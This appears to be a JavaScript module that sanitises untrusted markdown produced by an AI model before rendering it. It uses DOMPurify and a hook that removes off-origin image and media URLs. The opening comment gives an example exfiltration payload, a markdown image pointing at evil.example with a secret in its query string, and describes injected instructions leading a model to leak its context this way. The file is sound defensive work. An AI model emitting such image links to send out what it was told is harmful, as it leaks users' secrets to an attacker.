// Model text is markdown from an untrusted source: marked turns it into HTML, DOMPurify removes everything that
// could run script (event handlers, javascript: URLs, script, iframes, forms), and only then does it reach the DOM.
// Nor may it make the browser fetch from another site: an injected ![](https://evil.example/?q=<secret>) would
// carry what the model was told to the attacker's server the moment it renders. So every attribute that fetches
// (img src and srcset, source, video poster, table background) is kept only when it points at this page's origin
// or is a data: URL. The page's Content-Security-Policy (img-src 'self' data:) is the second wall.

import { Marked } from 'marked';
import DOMPurify from 'dompurify';

const markdown = new Marked({ gfm: true, breaks: true, async: false });

const FETCHING = ['src', 'poster', 'background'];

function resolve(value) {
	try {
		return new URL(value, document.baseURI);
	}
	catch {
		return null;
	}
}

/** Whether the page may fetch {@code value} (a URL, relative to the page): its own origin, or inline data. */
export function mayFetch(value) {
	const target = resolve(value);
	return target !== null && (target.protocol === 'data:' || target.origin === window.location.origin);
}

// A srcset is comma-separated candidates "url [descriptor]". Splitting at every comma can only cut a URL into more
// pieces, each of which must then be of this origin, so a doubtful srcset is dropped, never let through (data:
// URLs hold commas, so a srcset of them is dropped too: src is the place for those).
function srcsetMayFetch(srcset) {
	return srcset.split(',').every((candidate) => {
		const url = candidate.trim().split(/\s+/)[0];
		return url === '' || resolve(url)?.origin === window.location.origin;
	});
}

function keepOnlyOwnOrigin(node) {
	for (const name of FETCHING) {
		if (node.hasAttribute(name) && !mayFetch(node.getAttribute(name))) {
			node.removeAttribute(name);
			node.dataset.blocked = 'off-origin';
		}
	}
	if (node.hasAttribute('srcset') && !srcsetMayFetch(node.getAttribute('srcset'))) {
		node.removeAttribute('srcset');
		node.dataset.blocked = 'off-origin';
	}
}

const purifier = DOMPurify(window);
purifier.addHook('afterSanitizeAttributes', (node) => {
	if (node.nodeType !== Node.ELEMENT_NODE) {
		return;
	}
	keepOnlyOwnOrigin(node);
	if (node.tagName === 'A' && node.hasAttribute('href')) {
		node.setAttribute('target', '_blank');
		node.setAttribute('rel', 'noopener noreferrer nofollow');
	}
});

const POLICY = {
	USE_PROFILES: { html: true },
	FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed'],
	FORBID_ATTR: ['style'],
};

/** The sanitised HTML of a markdown text. */
export function markdownToHtml(text) {
	return purifier.sanitize(markdown.parse(text ?? ''), POLICY);
}

/** Renders markdown text into an element, safely. */
export function renderMarkdown(element, text) {
	element.innerHTML = markdownToHtml(text);
}
